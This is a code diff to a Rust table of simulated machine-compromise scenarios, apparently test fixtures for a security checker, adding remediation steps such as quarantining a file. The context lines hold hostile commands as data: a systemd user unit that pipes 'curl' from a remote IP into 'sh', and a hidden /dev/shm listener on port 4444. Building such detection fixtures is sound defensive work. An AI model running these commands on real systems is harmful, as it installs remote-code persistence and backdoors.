@@ -22,7 +22,8 @@ pub(super) const RECIPES: &[MachineRecipe] = &[
         printf '[Service]\\nExecStart=/bin/sh -c \"curl -s http://203.0.113.9/a | sh\"\\n' \
          > /home/anna/.config/systemd/user/sync.service",
     )
-    .in_full(),
+    .in_full()
+    .mended_by(MachineMend::Quarantine("/home/anna/.config/systemd/user/sync.service")),
     MachineRecipe::new(
         "a rogue unit of the system's",
         (K::Autostart, Broken, "kworker.service"),
@@ -124,7 +125,8 @@ pub(super) const RECIPES: &[MachineRecipe] = &[
         /dev/shm/.syncd listen 4444 >/dev/null 2>&1 &
         until grep -q ':115C 00000000:0000 0A' /proc/net/tcp; do sleep 0.05; done
         rm /dev/shm/.syncd",
-    ),
+    )
+    .mended_by(MachineMend::End(".syncd")),
     MachineRecipe::searched(
         "a remote tool that starts by itself",
         (C::Remote, T::RemoteStarting, "AnyDesk"),
